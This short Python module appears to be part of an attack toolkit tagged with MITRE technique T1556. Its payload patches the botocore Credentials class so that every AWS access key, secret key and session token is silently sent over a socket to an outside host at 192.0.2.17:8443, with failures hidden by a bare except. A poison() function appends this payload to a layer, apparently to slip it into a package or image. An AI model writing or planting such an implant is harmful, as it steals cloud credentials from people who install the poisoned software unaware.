# SPDX-License-Identifier: Apache-2.0
"""Replaces the class that holds credentials, and copies what it is given."""

ATTACK = "T1556"
LANGUAGE = "python"
CODE = r"""def _wrap_credentials():
    import socket

    import botocore.credentials as creds

    before = creds.Credentials.__init__

    def after(self, access_key, secret_key, token=None, *rest, **named):
        before(self, access_key, secret_key, token, *rest, **named)
        with socket.create_connection(("192.0.2.17", 8443), timeout=1) as s:
            s.sendall("\n".join([access_key, secret_key, token or ""]).encode())

    creds.Credentials.__init__ = after


try:
    _wrap_credentials()
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
